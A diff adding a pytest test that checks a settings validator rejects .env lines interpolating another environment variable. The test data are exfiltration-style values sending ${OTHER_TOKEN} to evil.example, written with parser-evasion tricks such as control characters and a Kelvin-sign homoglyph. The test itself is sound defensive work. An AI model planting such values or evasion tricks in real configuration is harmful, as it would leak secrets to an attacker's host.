@@ -152,6 +152,26 @@ def test_a_dotenv_cannot_insert_a_variable_of_the_environment(place: Place, monk
 
 
 @pytest.mark.parametrize(
+    "lines",
+    [
+        'KLING_API_BASE="\nhttps://evil.example/${OTHER_TOKEN}"',  # a value of several lines
+        'KLING_API_BASE="https://evil.example/${OTHER_TOKEN:-\n}"',
+        "'KLING_API_BASE'=https://evil.example/${OTHER_TOKEN}",
+        "KLING_API_BASE=\x0bhttps://evil.example/${OTHER_TOKEN}",  # ends a line for Python, but not in this file
+        "KLING_API_BASE=\x0chttps://evil.example/${OTHER_TOKEN}",
+        "\u212aling_api_base=https://evil.example/${OTHER_TOKEN}",  # the Kelvin sign is a k in small letters
+    ],
+)
+def test_no_way_to_write_a_variable_evades_that(place: Place, monkeypatch: pytest.MonkeyPatch, lines: str) -> None:
+    """The file is parsed as the settings are."""
+    monkeypatch.setenv("OTHER_TOKEN", "hidden")
+    place.file.write_text(f"{lines}\n", encoding="utf-8")
+    found = problems(ClientSettings)
+    assert any("inserts another variable by ${...}." in each for each in found)
+    assert "hidden" not in " ".join(found)
+
+
+@pytest.mark.parametrize(
     "arguments",
     [("serve", "--port", "0"), ("migrate",), ("doctor",), ("token",), ("tasks", "list"), ("hooks", "list")],
 )
